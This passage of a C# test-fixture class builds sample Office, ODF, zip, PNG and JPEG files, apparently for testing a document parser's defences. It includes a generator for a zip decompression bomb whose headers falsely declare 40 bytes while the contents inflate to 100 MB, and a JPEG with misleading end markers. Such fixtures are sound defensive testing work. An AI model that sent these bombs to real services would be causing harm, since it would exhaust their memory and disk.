                new Paragraph(new DocumentFormat.OpenXml.Wordprocessing.Run(new DocumentFormat.OpenXml.Wordprocessing.Text("Interface specification for the Open API policy."))),
                new Paragraph(new Hyperlink(new DocumentFormat.OpenXml.Wordprocessing.Run(new DocumentFormat.OpenXml.Wordprocessing.Text("API reference"))) { Id = link.Id }),
                new Paragraph(new SimpleField { Instruction = " PAGE " })));
        }

        return buffer.ToArray();
    }

    private static byte[] OpenXmlSdkXlsx()
    {
        using var buffer = new MemoryStream();
        using (var document = SpreadsheetDocument.Create(buffer, DocumentFormat.OpenXml.SpreadsheetDocumentType.Workbook))
        {
            var workbook = document.AddWorkbookPart();
            workbook.Workbook = new Workbook();
            var sheetPart = workbook.AddNewPart<WorksheetPart>();
            sheetPart.Worksheet = new Worksheet(new SheetData(
                new Row(new Cell { CellReference = "A1", CellValue = new CellValue(2), DataType = CellValues.Number }),
                new Row(new Cell { CellReference = "A2", CellValue = new CellValue(3), DataType = CellValues.Number }),
                new Row(new Cell { CellReference = "A3", CellFormula = new CellFormula("SUM(A1:A2)") })));
            workbook.Workbook.AppendChild(new Sheets(new Sheet { Id = workbook.GetIdOfPart(sheetPart), SheetId = 1, Name = "Figures" }));
        }

        return buffer.ToArray();
    }

    /// <summary>A .docx whose picture part inflates to 100 MB but whose headers say 40 bytes, as a hand-made bomb would.</summary>
    public static byte[] LyingDocx(long inflatesTo = 100L << 20, uint declared = 40)
    {
        var zip = Zip(("[Content_Types].xml", ContentTypes(), 0), ("word/document.xml", WordDocument("<w:p/>"), 0), ("word/media/image1.png", null, inflatesTo));
        var nameBytes = "word/media/image1.png"u8;
        var span = zip.AsSpan();
        for (var i = 0; i + 46 < span.Length; i++)
        {
            if (span[i..].StartsWith("PK\u0003\u0004"u8) && span[(i + 30)..].StartsWith(nameBytes))
            {
                BinaryPrimitives.WriteUInt32LittleEndian(span[(i + 22)..], declared);
            }
            else if (span[i..].StartsWith("PK\u0001\u0002"u8) && span[(i + 46)..].StartsWith(nameBytes))
            {
                BinaryPrimitives.WriteUInt32LittleEndian(span[(i + 24)..], declared);
            }
        }

        return zip;
    }

    // ---- ODF ----

    private static byte[] Odf(string mime, string body = "<office:text><text:p>Letter</text:p></office:text>", string beforeBody = "", string manifestExtra = "", (string Name, string Content)[]? parts = null) =>
        Zip([
            ("mimetype", mime, 0),
            ("META-INF/manifest.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
                + $"<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"{mime}\"/><manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>{manifestExtra}</manifest:manifest>", 0),
            ("content.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
                + "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" "
                + "xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" office:version=\"1.3\">"
                + $"{beforeBody}<office:body>{body}</office:body></office:document-content>", 0),
            .. (parts ?? []).Select(p => (p.Name, (string?)p.Content, 0L)),
        ]);

    // ---- Zip ----

    /// <summary>A zip of text entries, or of <c>zeros</c> bytes of zeros (written in chunks, so a bomb never sits in memory unpacked).</summary>
    public static byte[] Zip(params (string Name, string? Text, long Zeros)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text, zeros) in entries)
            {
                using var entry = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
                if (text is not null)
                {
                    entry.Write(Encoding.UTF8.GetBytes(text));
                }

                var chunk = new byte[1 << 20];
                for (var left = zeros; left > 0; left -= chunk.Length)
                {
                    entry.Write(chunk, 0, (int)Math.Min(chunk.Length, left));
                }
            }
        }

        return buffer.ToArray();
    }

    // ---- Images ----

    /// <summary>A real one-pixel PNG: signature, IHDR, IDAT (zlib) and IEND, each with its CRC.</summary>
    public static byte[] Png()
    {
        byte[] header = [0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0];
        using var pixels = new MemoryStream();
        using (var zlib = new ZLibStream(pixels, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write([0, 0x00, 0x5E, 0xB8]);
        }

        return [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. Chunk("IHDR", header), .. Chunk("IDAT", pixels.ToArray()), .. Chunk("IEND", [])];
    }

    private static byte[] Chunk(string type, byte[] data)
    {
        var typeBytes = Encoding.ASCII.GetBytes(type);
        var chunk = new byte[12 + data.Length];
        BinaryPrimitives.WriteUInt32BigEndian(chunk, (uint)data.Length);
        typeBytes.CopyTo(chunk, 4);
        data.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), Crc32([.. typeBytes, .. data]));
        return chunk;
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
            }
        }

        return ~crc;
    }

    /// <summary>
    /// A baseline one-pixel grey JPEG built segment by segment (JFIF, quantisation and Huffman tables, frame, scan, EOI);
    /// with <paramref name="thumbnail"/>, an Exif segment holding a thumbnail's own start and end markers, which a
    /// byte search for the end marker would mistake for the image's end.
    /// </summary>
    public static byte[] Jpeg(bool thumbnail)
    {
        var jpeg = new List<byte> { 0xFF, 0xD8 };
        void Segment(byte marker, params byte[] data)
        {
            jpeg.AddRange([0xFF, marker, (byte)((data.Length + 2) >> 8), (byte)(data.Length + 2)]);
            jpeg.AddRange(data);
        }

        Segment(0xE0, [.. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
        if (thumbnail)
        {
            Segment(0xE1, [.. "Exif\0\0"u8, 0xFF, 0xD8, 0xFF, 0xDB, 0x00, 0x03, 0x00, 0xFF, 0xD9]);
        }

        Segment(0xDB, [0, .. Enumerable.Repeat((byte)1, 64)]);
        Segment(0xC0, [8, 0, 1, 0, 1, 1, 1, 0x11, 0]);
        Segment(0xC4, [0x00, 1, .. new byte[15], 0]);
        Segment(0xC4, [0x10, 1, .. new byte[15], 0]);
        Segment(0xDA, [1, 1, 0x00, 0, 63, 0]);
        jpeg.Add(0x3F);
        jpeg.AddRange([0xFF, 0xD9]);
        return [.. jpeg];
    }

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
}
